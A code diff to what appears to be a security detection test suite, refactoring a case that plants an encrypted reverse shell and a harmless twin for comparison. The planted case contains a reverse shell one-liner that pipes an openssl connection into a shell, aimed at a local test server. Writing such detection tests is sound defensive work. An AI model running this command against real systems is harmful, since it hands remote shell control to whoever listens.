@@ -5,7 +5,6 @@ from __future__ import annotations
 import json
 import os
 import socket
-import time
 from typing import Any
 
 from tests.lab.case import case
@@ -200,7 +199,7 @@ def encrypted_reverse_shell(room: Room) -> Planted:
     server = socket.create_server(remote)
     room.afterwards(server.close)
     pid = room.start("sh", "-c", "openssl s_client -quiet -connect {}:{} | exec sh; :".format(*remote))
-    return {"pid": _child_shell(pid)}
+    return {"pid": room.child_of(pid, "sh")}
 
 
 @encrypted_reverse_shell.twin
@@ -210,15 +209,3 @@ def _(room: Room) -> Planted:
     server = socket.create_server(remote)
     room.afterwards(server.close)
     return {"pid": room.start("sh", "-c", "openssl s_client -connect {}:{} | cat".format(*remote))}
-
-
-def _child_shell(pid: int) -> int:
-    """The child of a shell that has become a shell of its own; until they do, all its children look like it."""
-    for _ in range(500):
-        with open(f"/proc/{pid}/task/{pid}/children") as file:
-            for child in file.read().split():
-                with open(f"/proc/{child}/cmdline", "rb") as cmdline:
-                    if cmdline.read() == b"sh\0":
-                        return int(child)
-        time.sleep(0.02)
-    raise RuntimeError(f"{pid} has started no shell")
